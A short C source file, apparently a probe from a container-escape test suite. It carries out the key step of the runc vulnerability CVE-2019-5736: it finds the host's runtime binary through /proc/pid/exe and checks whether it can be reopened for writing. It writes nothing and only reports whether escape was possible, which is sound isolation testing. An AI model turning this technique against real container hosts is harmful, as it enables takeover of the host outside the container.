/*
 * DEVICE INODE: waits until a process of the cage has the host's program as its /proc/pid/exe, keeps that open, and opens it for writing
 * once it runs no more (CVE-2019-5736). It writes nothing. Says "ready" first.
 */
#include <dirent.h>
#include <time.h>
#include "attack.h"

static int find(dev_t device, ino_t inode)
{
    DIR *proc = opendir("/proc");
    char path[300];
    struct stat status;
    int file = -1;
    for (struct dirent *entry; file < 0 && (entry = readdir(proc));) {
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        if (atoi(entry->d_name) > 0 && stat(path, &status) == 0 && status.st_dev == device && status.st_ino == inode)
            file = open(path, O_RDONLY);
    }
    closedir(proc);
    return file;
}

int main(int count, char **words)
{
    if (count != 3)
        return BROKEN;
    puts("ready");
    fflush(stdout);
    time_t end = time(NULL) + 6;
    int file = -1;
    char path[64];
    while (time(NULL) < end) {
        if (file < 0)
            file = find(strtoul(words[1], NULL, 10), strtoul(words[2], NULL, 10));
        snprintf(path, sizeof path, "/proc/self/fd/%d", file);
        if (file >= 0 && open(path, O_WRONLY) >= 0)
            return ESCAPED;
    }
    return held(file < 0 ? "the program never was there" : "it cannot be written to");
}
